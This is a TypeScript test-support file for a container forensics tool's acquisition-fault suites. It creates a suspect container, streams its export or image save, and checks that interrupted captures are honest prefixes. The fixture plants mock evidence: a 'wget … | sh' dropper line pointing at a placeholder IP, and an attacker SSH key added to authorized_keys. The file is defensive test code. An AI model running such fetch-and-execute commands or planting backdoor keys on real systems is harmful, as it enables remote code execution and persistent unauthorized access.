// Shared scene for the acquisition-fault suites: a small suspect, uncut references, one stream through the proxy.
//
// A run acquires exactly as a snapshot does (engine adapter → acquireStream → the case's addStream), only without
// the snapshot's other steps around it, so hundreds of cuts fit in a minute. References come from the docker CLI,
// never from HoldCell, so a bug in our stream handling cannot agree with itself.
import { createHash } from 'node:crypto';
import { readFile, stat } from 'node:fs/promises';
import { join } from 'node:path';
import { acquireStream, type StreamOutcome } from '../../src/capture/node/acquisition-stream.js';
import type { ContainerEngine, EngineStream } from '../../src/capture/node/container-engine.js';
import type { ManifestItem } from '../../src/forensics/common/case-model.js';
import type { CaseRecorder } from '../../src/forensics/common/case-recorder.js';
import { createTestContainer, docker } from '../support/docker-cli.js';
import type { dockerStreamHash } from './snapshot-rig.js';

export type Reference = Awaited<ReturnType<typeof dockerStreamHash>>;

/** A stopped busybox container with a few files of its own: an export and a save of about 2 MB each. */
export async function createSmallSuspect(name: string): Promise<{ id: string; imageId: string }> {
  const script = [
    'echo "wget http://203.0.113.9/x | sh" > /tmp/dropper.sh',
    'head -c 300000 /dev/urandom > /tmp/blob.bin',
    'mkdir -p /root/.ssh && echo "ssh-ed25519 AAAAC3 attacker" > /root/.ssh/authorized_keys',
  ].join('; ');
  const id = await createTestContainer({ name, args: ['--network', 'none'], command: ['sh', '-c', script] });
  await docker(['start', id]);
  await docker(['wait', id]);
  const imageId = (await docker(['inspect', '-f', '{{.Image}}', id])).trim();
  return { id, imageId };
}

export type StreamKind = 'export' | 'save';

/** The engine call a snapshot makes for each kind, with the same open deadlines. */
export function streamCall(
  engine: ContainerEngine,
  kind: StreamKind,
  suspect: { id: string; imageId: string },
): { call: { method: string; path: string }; open: (signal: AbortSignal) => Promise<EngineStream> } {
  return kind === 'export'
    ? {
        call: { method: 'GET', path: `/containers/${suspect.id}/export` },
        open: (signal) => engine.exportContainer(suspect.id, signal),
      }
    : {
        call: { method: 'GET', path: `/images/${suspect.imageId}/get` },
        open: (signal) => engine.saveImage(suspect.imageId, signal),
      };
}

/** One acquisition of `kind` into the case, as SnapshotRun.streamItem does it; resolves with the outcome and time. */
export async function acquireOnce(spec: {
  engine: ContainerEngine;
  recorder: CaseRecorder;
  suspect: { id: string; imageId: string };
  kind: StreamKind;
  id: string;
  idleTimeoutMs: number;
  onProgress?: (bytes: number) => void;
}): Promise<{ outcome: StreamOutcome; elapsedMs: number }> {
  const { call, open } = streamCall(spec.engine, spec.kind, spec.suspect);
  const started = performance.now();
  const outcome = await acquireStream({
    recorder: spec.recorder,
    spec: {
      id: spec.id,
      kind: spec.kind === 'export' ? 'filesystem-export' : 'image-save',
      fileName: `${spec.id}.tar`,
      format: 'tar',
      source: { engineId: spec.engine.engineId, endpoint: spec.engine.endpoint, containerId: spec.suspect.id },
      note: `fault run ${spec.id}`,
    },
    call,
    open,
    openTimeoutMs: spec.idleTimeoutMs,
    idleTimeoutMs: spec.idleTimeoutMs,
    signal: new AbortController().signal,
    now: () => new Date(),
    explain: (error) => spec.engine.explainFailure(error),
    ...(spec.onProgress ? { onProgress: spec.onProgress } : {}),
  });
  return { outcome, elapsedMs: performance.now() - started };
}

/** The file's own SHA-256 and size, read back from disk (not from the manifest). */
export async function fileFacts(caseDir: string, item: ManifestItem): Promise<{ sha256: string; bytes: number }> {
  const file = join(caseDir, item.path);
  const [content, info] = await Promise.all([readFile(file), stat(file)]);
  return { sha256: createHash('sha256').update(content).digest('hex'), bytes: info.size };
}

/**
 * The verdict every fault must leave: complete and byte-identical to the reference, or incomplete with a reason
 * and an exact prefix of it. Returns a sentence naming the first violation, or undefined when the item is honest.
 */
export async function spliceProblem(
  caseDir: string,
  item: ManifestItem,
  reference: Reference,
): Promise<string | undefined> {
  const onDisk = await fileFacts(caseDir, item);
  if (onDisk.sha256 !== item.sha256 || onDisk.bytes !== item.bytes) {
    return `${item.id}: the file (${onDisk.bytes} bytes, ${onDisk.sha256}) is not what the manifest says (${item.bytes}, ${item.sha256})`;
  }
  if (item.complete) {
    return item.sha256 === reference.sha256
      ? undefined
      : `${item.id}: complete but differs from the uncut reference (${item.bytes} of ${reference.bytes} bytes)`;
  }
  if (item.incompleteReason === undefined || item.incompleteReason.trim() === '') {
    return `${item.id}: incomplete without a reason`;
  }
  if (item.bytes > reference.bytes) return `${item.id}: incomplete yet longer than the reference`;
  return item.sha256 === reference.prefixSha256(item.bytes)
    ? undefined
    : `${item.id}: incomplete and NOT a prefix of the reference (${item.bytes} bytes): spliced`;
}

/** Counts unhandled rejections and uncaught exceptions process-wide while a suite runs. */
export function watchProcessFaults(): { readonly count: number; readonly seen: unknown[]; stop: () => void } {
  const seen: unknown[] = [];
  const onRejection = (reason: unknown): void => {
    seen.push(reason);
  };
  // The monitor variant observes without changing Node's (or vitest's) handling of the exception.
  const onException = (error: unknown): void => {
    seen.push(error);
  };
  process.on('unhandledRejection', onRejection);
  process.on('uncaughtExceptionMonitor', onException);
  return {
    get count() {
      return seen.length;
    },
    seen,
    stop: () => {
      process.off('unhandledRejection', onRejection);
      process.off('uncaughtExceptionMonitor', onException);
    },
  };
}
